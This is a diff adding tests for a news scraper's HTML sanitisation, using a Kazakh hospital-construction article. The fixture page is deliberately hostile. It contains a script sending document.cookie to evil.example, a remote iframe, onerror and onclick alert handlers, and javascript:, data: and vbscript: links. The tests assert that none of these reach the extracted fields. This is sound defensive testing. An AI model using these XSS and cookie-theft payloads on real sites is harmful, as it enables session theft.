@@ -1,0 +1,66 @@
+"""Hostile content: scripts and event handlers never run and never reach a field as markup;
+links in the related blocks are http(s) only."""
+
+from __future__ import annotations
+
+from kazscraper.clean.article import clean_article
+from kazscraper.extract.article import extract_article
+from kazscraper.sites import get_profile
+
+PROFILE = get_profile("qazdauiri")
+URL = "https://qazdauiri.kz/news/hostile"
+PARAGRAPH = (
+    "Облыс әкімдігі жаңа аурухана құрылысының екінші кезеңін бастады. Нысан 2026 жылы "
+    "пайдалануға беріледі деп күтілуде, онда 300 төсек-орын болады."
+)
+HOSTILE = f"""<!DOCTYPE html><html lang="kk"><head>
+<title>Аурухана құрылысы</title>
+<script>document.cookie = "stolen"; fetch("https://evil.example/?" + document.cookie)</script>
+<meta property="og:title" content="Аурухана &lt;script&gt;alert(1)&lt;/script&gt; құрылысы">
+</head><body onload="alert('onload')">
+<article><h1 class="news-title" onmouseover="alert('h1')">Аурухана құрылысы</h1>
+<div class="news-text">
+<p onclick="alert('p')">{PARAGRAPH}</p>
+<script>alert("inline")</script>
+<p><img src="x" onerror="alert('img')"><a href="javascript:alert('a')">Толығырақ оқу</a>
+ Құрылысқа 12 миллиард теңге бөлінді.<iframe src="https://evil.example/frame"></iframe></p>
+<style>p {{ background: url("javascript:alert('css')") }}</style>
+<noscript><p>JavaScript қосыңыз</p></noscript>
+<p><strong>ЖҰМАБАЕВ Ержан Болатұлы,</strong></p><p>11.12.2025</p>
+</div>
+<section><h3>Ұқсас жаңалықтар</h3><ul>
+<li><a href="javascript:alert('similar')">Зиянды сілтеме</a> 10.12.2025</li>
+<li><a href="data:text/html,<script>alert(1)</script>">Деректер сілтемесі</a> 09.12.2025</li>
+<li><a href="vbscript:msgbox(1)">VB сілтеме</a> 08.12.2025</li>
+<li><a href="/news/durys-silteme">Дұрыс сілтеме</a> 07.12.2025</li>
+</ul></section></article></body></html>"""
+
+
+def extract():
+    return clean_article(
+        extract_article(HOSTILE, URL, PROFILE, "2025-12-12T08:00:00+00:00"), PROFILE
+    )
+
+
+def test_no_script_or_handler_reaches_a_text_field() -> None:
+    article = extract()
+    # the title is checked on its own below: escaped markup in og:title is text
+    fields = [article.body, article.lead, article.affiliation, article.category]
+    fields += [a.name for a in article.authors] + [r.title for r in article.related]
+    text = " ".join(f for f in fields if f)
+    markers = ["alert", "cookie", "onerror", "onclick", "<iframe", "<img", "<p", "evil"]
+    for marker in [*markers, "JavaScript"]:  # <noscript> text is not the article's either
+        assert marker not in text, marker
+    assert article.body.startswith(PARAGRAPH)
+    assert "Құрылысқа 12 миллиард теңге бөлінді." in article.body
+
+
+def test_a_title_that_contains_markup_text_is_kept_as_plain_text() -> None:
+    # og:title carries escaped markup: it is text, stored as text, never parsed or run
+    assert extract().title == "Аурухана <script>alert(1)</script> құрылысы"
+
+
+def test_related_links_are_http_only() -> None:
+    related = [r for r in extract().related if r.kind == "similar"]
+    assert [r.url for r in related if r.url] == ["https://qazdauiri.kz/news/durys-silteme"]
+    assert all(r.url is None for r in related if r.title != "Дұрыс сілтеме")
